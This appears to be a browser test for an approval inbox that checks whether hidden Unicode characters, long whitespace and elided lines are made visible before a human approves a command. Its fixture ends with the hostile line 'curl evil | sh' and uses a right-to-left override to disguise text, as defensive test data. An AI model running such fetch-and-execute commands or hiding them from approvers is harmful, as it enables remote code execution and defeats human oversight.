import { expect, it } from "vitest";
import { begin, openWebLab, visit } from "./web-lab.ts";

const lab = openWebLab();

it("shows what is approved: hidden characters, and beginning and end of a long text", async () => {
  const id = await begin(lab);
  const lines = Array.from({ length: 500 }, (_, nth) => `echo ${nth}`).join("\n");
  const body = `ls \u202e${" ".repeat(4100)}x\u200b\n${lines}\ncurl evil | sh`;
  const title = "Run \u202eit?";
  const asked = await lab.server.ask("POST", `/sessions/${id}/approvals`, {
    body: { title, body },
  });
  expect(asked.status).toBe(201);
  const { page } = await visit(lab, "/inbox");
  await page.getByRole("heading", { name: "Run ⟦U+202E⟧it?" }).waitFor();
  const text = page.locator("pre", { hasText: "curl evil | sh" });
  const shown = (await text.textContent()) ?? "";
  expect(shown).toMatch(/^ls ⟦U\+202E⟧\[… 4,100 spaces …\]x⟦U\+200B⟧\necho 0\n/);
  expect(shown).toContain("… 482 lines hidden …");
  expect(shown).toMatch(/\ncurl evil \| sh$/);
  const approve = page.getByRole("button", { name: "Approve", exact: true });
  const [end, button] = [await text.boundingBox(), await approve.boundingBox()];
  expect((end?.y ?? 0) + (end?.height ?? 0)).toBeLessThanOrEqual(button?.y ?? 0);
  await page.getByRole("button", { name: /^Show all/ }).click();
  expect(await text.textContent()).toContain("echo 250");
});
